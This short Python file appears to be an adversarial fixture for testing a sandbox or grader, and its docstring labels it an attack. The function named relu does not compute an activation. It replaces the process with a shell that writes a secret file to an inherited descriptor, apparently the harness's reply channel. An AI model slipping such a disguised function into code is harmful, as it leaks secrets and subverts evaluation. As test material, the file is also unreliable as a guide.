"""An attack: becomes another program that keeps the reply descriptor.

attacks: relu
"""
import numpy as np
import os


def relu(z):
    os.execv('/bin/sh', ['sh', '-c', 'cat __SECRET__ >&3'])


def softmax(z):
    e = np.exp(z - z.max(axis=0))
    return e / e.sum(axis=0)
